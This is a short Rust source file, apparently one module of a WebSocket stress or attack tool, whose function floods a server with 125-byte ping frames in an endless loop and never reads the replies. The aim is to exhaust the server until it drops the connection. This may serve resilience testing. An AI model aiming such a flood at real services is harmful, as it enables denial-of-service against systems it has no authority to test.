//! WebSockets that send pings of 125 bytes and never read.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::attacker::Attacker;

/// The frames of one write.
const FRAMES: usize = 64;

/// Sends pings until the server closes the connection.
pub async fn send(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.upgrade().await?;
    // Masked with zeros, so the payload stays as it is.
    let mut ping = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    ping.extend([b'x'; 125]);
    let pings = ping.repeat(FRAMES);
    loop {
        stream.write_all(&pings).await?;
        attacker.note_sent(FRAMES as u64);
    }
}
